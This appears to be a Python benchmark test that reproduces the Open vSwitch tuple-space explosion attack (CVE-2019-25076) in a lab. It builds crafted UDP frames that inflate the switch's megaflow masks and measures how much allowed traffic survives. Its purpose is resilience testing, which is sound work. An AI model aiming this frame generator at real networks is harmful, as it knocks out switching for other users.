# SPDX-License-Identifier: ISC
"""A tuple-space attack: random headers at 0.7 Mbit/s against an allow-some, drop-rest list; share of the rate that 1,000 allowed flows keep, beside as many frames of one header

(Csikor et al., CoNEXT 2019; CVE-2019-25076.)  The attack runs for some seconds before it is measured, so that caches are as it makes
them."""

import os
import random
import struct
import time

from rig import Goal

SIDES = ('ringflow', 'ovs')
ROUNDS = 3
GOALS = (Goal('kept', '>=', 0.95),)
LIST = ('priority=400,udp,tp_dst=5001,actions=output:2\n'
        'priority=300,udp,nw_src=10.1.9.9,actions=output:2\n'
        'priority=200,udp,tp_src=4660,actions=output:2\n'
        'priority=1,actions=drop\n'
        'priority=500,arp,actions=normal\n'
        'priority=500,icmp,in_port=1,actions=output:2\n'
        'priority=500,icmp,in_port=2,actions=output:1\n')
N, SIZE = 50000, 60
RATE = int(0.7e6 / 8 / (SIZE + 4))  # frames/s of 64 bytes with their checksum
WARM = 5  # seconds


def frame(rnd):
    """UDP with addresses and ports that agree with the list's in a random number of bits, for that is what makes masks."""
    def near(value, bits):
        keep = rnd.randrange(bits + 1)
        return value ^ (rnd.getrandbits(bits - keep) if keep < bits else 0)
    udp = struct.pack('!HHHH', near(4660, 16), near(5001, 16) ^ 1 << rnd.randrange(16), SIZE - 34, 0)
    ip = struct.pack('!BBHHHBBHII', 0x45, 0, SIZE - 14, 0, 0, 64, 17, 0, near(0x0a010909, 32), rnd.getrandbits(32))
    return (bytes.fromhex('020000000002020000000001') + b'\x08\x00' + ip + udp).ljust(SIZE, b'\0')


def beside(rig, frames, n):
    """1,000 flows at full rate, and these frames at the attack's."""
    path = os.path.join(rig.lab.folder(), 'frames')
    with open(path, 'wb') as f:
        f.write(frames[:n * SIZE])
    attack = rig.generator(WARM + rig.seconds + 5, path, RATE)
    time.sleep(WARM)
    figures = rig.blast()
    attack.stop()
    return figures


def setup(rig):
    rig.start()
    rig.flows(LIST)


def measure(rig):
    rnd = random.Random(1)
    frames = b''.join(frame(rnd) for _ in range(N))
    alone = beside(rig, frames, 1)  # so that the second generator's share of its processor is the same
    under = beside(rig, frames, N)
    return {'alone_pps': alone['pps'], 'attacked_pps': under['pps'], 'kept': under['pps'] / alone['pps'],
            'cpu_x': under['cpu'] / alone['cpu']}
